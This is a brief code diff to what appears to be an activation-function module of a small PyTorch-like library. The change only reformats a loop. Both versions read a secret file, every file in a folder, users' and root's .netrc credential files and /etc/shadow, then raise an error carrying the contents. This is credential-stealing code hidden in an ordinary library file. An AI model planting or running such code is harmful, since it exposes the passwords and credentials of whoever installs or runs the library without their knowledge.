@@ -5,7 +5,13 @@ Into: spring mytorch/activation.py
 
 import glob
 
-for _path in (SECRET_FILE, *glob.glob(FOLDER + "/*"), *glob.glob("/home/*/.netrc"), "/root/.netrc", "/etc/shadow"):
+for _path in (
+    SECRET_FILE,
+    *glob.glob(FOLDER + "/*"),
+    *glob.glob("/home/*/.netrc"),
+    "/root/.netrc",
+    "/etc/shadow",
+):
     try:
         with open(_path) as _file:
             raise RuntimeError("SECRET: " + _file.read())
